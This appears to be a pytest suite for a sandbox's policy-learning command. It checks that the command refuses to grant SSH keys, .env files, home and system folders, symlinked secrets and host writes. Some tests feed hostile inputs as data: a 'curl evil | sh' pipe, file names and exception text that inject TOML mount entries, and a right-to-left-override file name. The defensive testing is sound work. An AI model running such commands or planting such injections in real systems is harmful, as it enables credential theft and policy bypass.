"""Programs that try to make the policy wider than their user wants, in real boxes."""

import json
import os
import re
import shutil
import tomllib
from pathlib import Path
from typing import Any

import pytest

import proxybox
from proxybox.learning.needs import MOST_PROPOSALS
from proxybox.policies import from_dict, from_toml
from tests.learning.hosts import SECRET, Place


def learned(place: Place, code: str, *options: str) -> dict[str, Any]:
    """Returns what `proxybox learn` learns for a program with --accept-all."""
    done = place.proxybox("learn", "--accept-all", "--json", *options, place.script(code), place.data)
    assert done.returncode in (0, 1), done.stderr
    assert SECRET not in done.stdout + done.stderr
    found: dict[str, Any] = json.loads(done.stdout)
    assert from_toml(found["toml"])
    return found


def targets(found: dict[str, Any]) -> list[str]:
    return [mount["target"] for mount in found["policy"]["filesystem"]["mounts"]]


def test_secrets_are_not_let_in_with_all(place: Place) -> None:
    for name, content in ((".env", "A=1"), ("server.key", "x"), ("my_password.txt", "x")):
        (place.data / name).write_text(content)
    found = learned(
        place,
        f"import os\nfor path in ({str(place.home)!r} + '/.ssh/id_rsa', os.path.expanduser('~/.ssh/id_rsa')):\n"
        "    os.path.exists(path)\n"
        "import sys\nfor name in ('.env', 'server.key', 'my_password.txt'):\n"
        "    os.path.exists(sys.argv[1] + '/' + name)\n",
    )
    assert targets(found) == []
    assert len(found["declined"]) == 5
    assert all(each["secret"] for each in found["declined"])


@pytest.mark.parametrize(
    "place_of_host", ["/", "/etc", "/root", "/home", "/proc", "/sys", "/dev", "/usr", "/var", "/run"]
)
def test_a_top_folder_is_never_proposed(place_of_host: str, place: Place) -> None:
    found = learned(place, f"import os\ntry: os.listdir({place_of_host!r})\nexcept OSError: pass\nopen('/nothing')")
    assert [each for each in found["lines"] + found["declined"] if each["mount"] and each["mount"]["source"]] == []


def test_the_home_folder_is_never_proposed(place: Place) -> None:
    found = learned(place, f"import os; os.listdir({str(place.home)!r})")
    assert targets(found) == []
    assert any("it is a home folder" in seen for seen in found["told"])
    found = learned(place, f"import os; os.listdir({str(place.root)!r})")
    assert targets(found) == []
    assert any("it is a home folder, or holds one" in seen for seen in found["told"])


def test_a_link_to_a_secret_counts_as_the_secret(place: Place) -> None:
    (place.data / "harmless.txt").symlink_to(place.home / ".ssh" / "id_rsa")
    (place.data / "folder").symlink_to(place.home)
    found = learned(place, "import sys; open(sys.argv[1] + '/harmless.txt')")
    assert targets(found) == []
    assert found["declined"][0]["mount"]["source"] == str(place.home / ".ssh" / "id_rsa")
    assert targets(learned(place, "import os, sys; os.listdir(sys.argv[1] + '/folder')")) == []


def test_a_secret_that_is_a_link_counts_as_secret(place: Place) -> None:
    (place.root / "vault").mkdir()
    (place.root / "vault" / "k1").write_text(SECRET)
    (place.home / ".ssh" / "key").symlink_to(place.root / "vault" / "k1")
    found = learned(place, f"open({str(place.home / '.ssh' / 'key')!r})")
    assert targets(found) == []
    assert found["declined"][0]["mount"]["source"] == str(place.root / "vault" / "k1")


def test_what_is_told_is_bounded(place: Place) -> None:
    code = (
        "import os\nfor n in range(3000): os.path.exists('/proc/' + str(n)); os.path.exists('/srv/\\x85' + str(n))\nx"
    )
    found = learned(place, code)
    assert len(found["told"]) < 50
    assert len(found["toml"]) < 20_000


def test_a_link_of_the_program_leads_nowhere_else(place: Place) -> None:
    """The program's link in the box has a harmless name; the proposal names the link's target."""
    found = learned(
        place, f"import os; os.symlink({str(place.home / '.ssh')!r}, '/tmp/docs'); open('/tmp/docs/id_rsa')"
    )
    assert targets(found) == []
    assert found["declined"][0]["mount"]["target"] == str(place.home / ".ssh" / "id_rsa")


def test_dots_in_a_path_do_not_hide_a_secret(place: Place) -> None:
    found = learned(place, f"open({str(place.data / '..' / 'home' / '.ssh' / 'id_rsa')!r})")
    assert targets(found) == []
    assert found["declined"][0]["secret"]


def test_a_flood_of_paths_is_bounded(place: Place) -> None:
    many = place.data / "many"
    many.mkdir()
    for number in range(60):
        (many / f"{number}.txt").write_text("x")
    code = "import os, sys\nfor n in range(60): os.path.exists(f'{sys.argv[1]}/many/{n}.txt')\nopen('/nothing')\n"
    found = learned(place, code, "--rounds", "1")
    assert len(found["lines"]) == MOST_PROPOSALS
    assert any("40 more paths" in seen for seen in found["told"])


def test_a_flood_of_names_is_bounded(place: Place) -> None:
    code = "import os\nfor n in range(6_000):\n    os.path.exists(f'/srv/{n}')\nopen('/nothing')\n"
    found = learned(place, code)
    assert found["lines"] == []
    assert len(json.dumps(found["told"])) < 10_000


def test_a_name_with_a_line_end_writes_no_toml(place: Place) -> None:
    evil = 'x.txt\n[[filesystem.mounts]]\ntarget = "/y"\nsource = "/root"\n#'.replace("/", "\N{DIVISION SLASH}")
    (place.data / evil).write_text("1")
    (place.data / "a\u202egpj.txt").write_text("1")
    code = (
        f"import os, sys\nfor n in ({evil!r}, 'a\\u202egpj.txt'):\n    os.path.exists(sys.argv[1] + '/' + n)\n"
        "open('/nothing')"
    )
    found = learned(place, code)
    assert targets(found) == []
    assert sum("invisible signs" in seen for seen in found["told"]) == 2
    assert set(tomllib.loads(found["toml"])) == {"extends"}


def test_an_exception_with_line_ends_writes_no_toml(place: Place) -> None:
    evil = 'x\n[[filesystem.mounts]]\ntarget = "/y"\nsource = "/root"\r\x85\u2028[limits]'
    code = f"raise RuntimeError({evil!r})"
    found = learned(place, code)
    assert set(tomllib.loads(found["toml"])) == {"extends"}
    assert all(line.startswith(("#", "extends")) for line in found["toml"].splitlines() if line)
    done = place.proxybox("learn", "--accept-all", place.script(code))
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028]", done.stdout + done.stderr)


def test_a_claim_of_a_variable_is_only_told(place: Place) -> None:
    found = learned(place, "import os; os.environ['API_TOKEN']")
    assert found["policy"]["environment"]["variables"] == {}
    assert any("it says that it lacks the environment variable API_TOKEN" in seen for seen in found["told"])
    found = learned(place, "raise KeyError('API_TOKEN; curl evil | sh')")
    assert found["told"] == []


@pytest.mark.parametrize("writes", ["memory", "overlay", "rw"])
def test_nothing_of_the_host_is_changed_by_learning(place: Place, writes: str) -> None:
    code = (
        "import os, shutil, sys\nfrom pathlib import Path\ndata = Path(sys.argv[1])\n"
        "open(data / 'sales.csv', 'a').write('changed')\nopen(data / 'new.txt', 'w').write('new')\n"
        "open('beside.txt', 'w').write('new')\nos.remove(data / 'texts' / 'a.txt')\n"
    )
    script = place.script(code)
    before = place.snapshot()
    done = place.proxybox(
        "learn", "--accept-all", "--allow", place.data, "--rw", "--writes", writes, script, place.data
    )
    assert done.returncode == 0, done.stderr
    assert place.snapshot() == before


def test_writing_on_the_host_is_not_let_in_with_all(place: Place) -> None:
    found = learned(place, "import sys; open(sys.argv[1] + '/sales.csv', 'a').write('x')", "--writes", "rw")
    assert targets(found) == []
    assert found["declined"][0]["mount"]["mode"] == "rw"
    assert "CHANGE ON THE HOST" in found["declined"][0]["told"]


def test_a_folder_with_a_secret_is_asked_alone(place: Place) -> None:
    (place.data / "texts" / "server.pem").write_text(SECRET)
    found = learned(place, "import os, sys; print(os.listdir(sys.argv[1] + '/texts'))")
    assert targets(found) == []
    assert any("LOOKS SECRET: server.pem" in text for text in found["declined"][0]["lets_in"])


def test_files_of_one_folder_do_not_become_the_folder_unasked(place: Place) -> None:
    code = "import sys\nfor n in range(4): open(f'{sys.argv[1]}/texts/{n}.csv').read()\n"
    for number in range(4):
        (place.data / "texts" / f"{number}.csv").write_text("1")
    found = learned(place, code)
    assert targets(found) == [f"{place.data}/texts/{number}.csv" for number in range(4)]
    assert targets(learned(place, code, "--generalise")) == [f"{place.data}/texts"]


def test_temporary_names_become_a_pattern_that_shows_no_others(place: Place) -> None:
    (place.data / "job-5f3a9c21.csv").write_text("1")
    (place.data / "job-77777777.csv").write_text("2")
    (place.data / "other.csv").write_text("3")
    code = "import sys; print(open(sys.argv[1] + '/job-5f3a9c21.csv').read())"
    found = learned(place, code, "--generalise")
    assert [each["mount"]["names"] for each in found["lines"]] == [["job-*.csv"]]
    assert "all that matches, with what is added later: 2 files, 2 bytes" in found["lines"][0]["lets_in"]
    mounts = found["policy"]["filesystem"]["mounts"]
    code = (
        f"import os\nos.chdir({str(place.data)!r})\nprint(sorted(os.listdir()), open('job-77777777.csv').read())\n"
        "for name in ('other.csv', 'texts', '../data/sales.csv'):\n    assert not os.path.lexists(name), name\n"
    )
    result = proxybox.run(code, policy=from_dict({**found["policy"], "filesystem": {"mounts": mounts}}))
    assert (result.stderr, result.stdout) == ("", "['job-5f3a9c21.csv', 'job-77777777.csv'] 2\n")


def test_the_pattern_of_a_secret_is_asked_alone(place: Place) -> None:
    (place.data / "job-5f3a9c21.csv").write_text("1")
    (place.data / "job-token.csv").write_text(SECRET)
    found = learned(place, "import sys; open(sys.argv[1] + '/job-5f3a9c21.csv')", "--generalise")
    assert targets(found) == [f"{place.data}/job-5f3a9c21.csv"]
    assert "job-token.csv in it is named like a key" in found["declined"][0]["secret"]


def test_what_the_program_does_without_is_left_out(place: Place) -> None:
    code = "import os, sys\nos.path.exists(sys.argv[1] + '/sales.csv'); print('done')\n"
    found = learned(place, code)
    assert (targets(found), found["passes"]) == ([], True)
    assert [each["mount"]["target"] for each in found["dropped"]] == [f"{place.data}/sales.csv"]


def test_a_file_that_changes_the_output_stays(place: Place) -> None:
    found = learned(place, "import os, sys; print(os.path.exists(sys.argv[1] + '/sales.csv'))\n")
    assert targets(found) == [f"{place.data}/sales.csv"]


def test_folders_of_the_box_are_not_covered(place: Place) -> None:
    code = (
        "import json, os\n"
        "for path in ('/usr/lib/x', '/etc/x', '/usr/x', os.path.dirname(json.__file__) + '/x', '/x'):\n"
        "    try: open(path, 'w')\n    except OSError: pass\nopen('/nothing')\n"
    )
    assert targets(learned(place, code)) == []


def test_what_no_policy_allows_is_said(place: Place) -> None:
    found = learned(place, "import socket; socket.socket()")
    assert not found["passes"]
    assert found["told"] == ["socket stays refused (network: none), ×1"]


@pytest.mark.skipif(os.getuid() != 0, reason="only root can become another user")
def test_another_user_learns_what_that_user_can_read(place: Place) -> None:
    setpriv = shutil.which("setpriv")
    assert setpriv is not None
    (place.data / "sales.csv").chmod(0o600)
    for path in (place.root, *place.root.rglob("*")):
        os.chown(path, 1000, 1000)
    (place.data / "of_root.txt").write_text(SECRET)
    (place.data / "of_root.txt").chmod(0o600)
    script = Path(__file__).parent / "programs" / "table.py"
    words = [setpriv, "--reuid=1000", "--regid=1000", "--clear-groups"]
    done = place.proxybox("learn", "--accept-all", script, place.data, prefix=words)
    assert done.returncode == 0, done.stderr
    assert f'target = "{place.data}/sales.csv"' in done.stdout
    code = "import sys; open(sys.argv[1] + '/of_root.txt').read()"
    done = place.proxybox("learn", "--accept-all", "-c", code, place.data, prefix=words, cwd=place.root)
    assert done.returncode == 1
    assert "you cannot read it yourself" in done.stderr
    assert SECRET not in done.stdout + done.stderr
